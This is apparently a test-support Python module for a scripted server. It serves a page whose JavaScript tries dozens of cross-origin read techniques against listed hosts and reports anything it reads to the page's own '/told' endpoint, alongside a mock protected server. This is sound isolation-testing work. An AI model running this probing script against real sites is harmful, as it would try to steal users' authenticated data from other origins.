"""A page whose script tries all ways to read other servers, and what these have to hide."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterable
from urllib.parse import unquote

from tests.support.servers.scripted import Reply, Request

HTML = {"Content-Type": "text/html; charset=utf-8"}
_JSON = {"Content-Type": "application/json"}
_SCRIPT = {"Content-Type": "text/javascript"}

PRYING = """<title>prying</title><p>An application with a public page.<div id=o></div><script>
const hosts = %s;
const tell = (how, what) => {
  if (typeof what != 'string') what = JSON.stringify(what);
  o.append(how + ' ' + what + ' ');
  new Image().src = '/told?' + encodeURIComponent(how + what);
  fetch('/told?' + encodeURIComponent(how + what)).catch(() => 0);
};
const attempt = (how, promise) => promise.then(what => tell(how, what), () => 0);
const text = reply => reply.text();
const frame = (how, url) => {
  const one = document.createElement('iframe');
  one.onload = () => { try { tell(how, one.contentDocument.documentElement.outerHTML) } catch {} };
  one.src = url;
  document.body.append(one);
};
const script = (url, more) => document.body.append(
  Object.assign(document.createElement('script'), {src: url}, more));
globalThis.told = what => tell('script', what);
onmessage = event => tell('message', event.data);
for (const host of hosts) {
  const to = encodeURIComponent(host);
  attempt('fetch', fetch(host + '/closed.json').then(text));
  attempt('include', fetch(host + '/closed.json?2', {credentials: 'include'}).then(text));
  attempt('headers', fetch(host + '/closed.json?3', {headers: {'X-Own': '1'}}).then(text));
  attempt('no-cors', fetch(host + '/closed.json?4', {mode: 'no-cors'}).then(text));
  attempt('redirect', fetch('/to?' + to + '/closed.json').then(text));
  attempt('back', fetch(host + '/back?' + encodeURIComponent(location.origin)).then(text));
  attempt('module', import(host + '/closed.js?module').then(module => module.default));
  attempt('json', import(host + '/closed.json?5', {with: {type: 'json'}}).then(m => m.default));
  attempt('away', import('/to?' + to + '/closed.json', {with: {type: 'json'}})
    .then(module => module.default));
  const xhr = new XMLHttpRequest();
  xhr.open('GET', host + '/closed.json?6');
  xhr.withCredentials = true;
  xhr.onload = () => tell('xhr', xhr.responseText);
  xhr.send();
  script(host + '/closed.js');
  script(host + '/closed.js?2', {crossOrigin: 'use-credentials'});
  script('/to?' + to + '/closed.js');
  frame('frame', host + '/closed.html');
  frame('away', '/to?' + to + '/closed.html');
  const work = `fetch('${host}/closed.json?7').then(r => r.text()).then(postMessage, () => 0);
    try { importScripts('${host}/closed.js?3') } catch {}`;
  for (const url of [URL.createObjectURL(new Blob([work])), 'data:text/javascript,' + escape(work)])
    new Worker(url).onmessage = event => tell('worker', event.data);
  const json = host + '/closed.json?';
  const events = new EventSource(json + '9', {withCredentials: true});
  events.onmessage = event => tell('events', event.data);
  const socket = new WebSocket(host.replace('http', 'ws') + '/closed.json?10');
  socket.onmessage = event => tell('socket', event.data);
  navigator.sendBeacon(json + '11', 'x');
  for (const method of ['POST', 'PUT'])
    attempt(method, fetch(json + '12', {method, credentials: 'include'}).then(text));
  attempt('kept', fetch(new Request(json + '13', {credentials: 'include', keepalive: true}))
    .then(text));
  for (const [name, key] of [['object', 'data'], ['embed', 'src'], ['img', 'src']])
    document.body.append(Object.assign(document.createElement(name), {[key]: json + '14'}));
  for (const [rel, as, crossOrigin] of [['preload', 'fetch', 'use-credentials'],
      ['prefetch', '', null], ['modulepreload', '', 'use-credentials'], ['stylesheet', '', null]])
    document.head.append(Object.assign(document.createElement('link'),
      {rel, as, crossOrigin, href: json + '15'}));
  const inner = document.createElement('iframe');
  inner.srcdoc = `<script>fetch('${json}16', {credentials: 'include'}).then(r => r.text())
    .then(what => parent.postMessage(what, '*'), () => 0)</` + 'script>';
  document.body.append(inner);
  document.body.insertAdjacentHTML('beforeend', `<iframe name=posted></iframe>
    <form method=post target=posted action="${json}17"><input name=a value=b></form>`);
  document.body.lastElementChild.submit();
  try { window.open(json + '18') } catch {}
  try {
    const shared = new SharedWorker(URL.createObjectURL(new Blob([`onconnect = event => fetch(
      '${json}19', {credentials: 'include'}).then(r => r.text())
      .then(what => event.ports[0].postMessage(what))`])));
    shared.port.onmessage = event => tell('shared', event.data);
  } catch {}
  navigator.serviceWorker?.register('/closed.js?20').catch(() => 0);
  const sandboxed = document.createElement('iframe');
  sandboxed.sandbox = 'allow-scripts';
  sandboxed.src = '/sandboxed?' + to;
  document.body.append(sandboxed);
}
</script>"""
SANDBOXED = """<script>fetch('%s/closed.json?8').then(r => r.text())
.then(what => parent.postMessage(what, '*'), () => 0)</script>"""


class Prying:
    """``answer`` is the route of a ScriptedServer: a page that anybody may see, of an application
    that wants to know what ``hosts`` (URLs without a slash at the end) tell others."""

    def __init__(self, hosts: Iterable[str], delay: float = 0.0) -> None:
        self.hosts, self.delay = list(hosts), delay
        self.told: list[str] = []
        """Texts that the page has sent to its server."""

    def answer(self, request: Request) -> Reply:
        query = unquote(request.target.partition("?")[2])
        match request.path:
            case "/":
                page = PRYING % json.dumps(self.hosts)
                return Reply(200, HTML, page.encode(), delay=self.delay)
            case "/told":
                self.told.append(query)
                return Reply(200, _JSON, b"0")
            case "/to":
                return Reply(302, {"Location": query})
            case "/sandboxed":
                return Reply(200, HTML, (SANDBOXED % query).encode())
        return Reply(404)


class Closed:
    """A server that shows pages and data with ``word`` where ``lets_in`` is True.

    All other paths are a page that runs one of its scripts and ends with ``more``.
    """

    def __init__(self, word: str, lets_in: Callable[[Request], bool]) -> None:
        self.word, self.lets_in = word, lets_in
        self.more = ""

    def answer(self, request: Request) -> Reply:
        if request.path == "/robots.txt":
            return Reply(404)
        if request.path == "/back":
            return Reply(302, {"Location": unquote(request.target.partition("?")[2]) + "/"})
        if not self.lets_in(request):
            return Reply(401, HTML, b"<title>closed</title>")
        bodies = {
            ".json": (_JSON, json.dumps({"text": self.word})),
            ".js": (_SCRIPT, f"(globalThis.told ?? (() => 0))('{self.word}')"),
            ".html": (HTML, f"<title>inside</title><p>{self.word}"),
        }
        name = request.path.rpartition(".")[1:]
        page = f"<title>{self.word}</title><p>inside<script src=/closed.js></script>{self.more}"
        headers, body = bodies.get("".join(name), (HTML, page))
        return Reply(200, headers, body.encode())
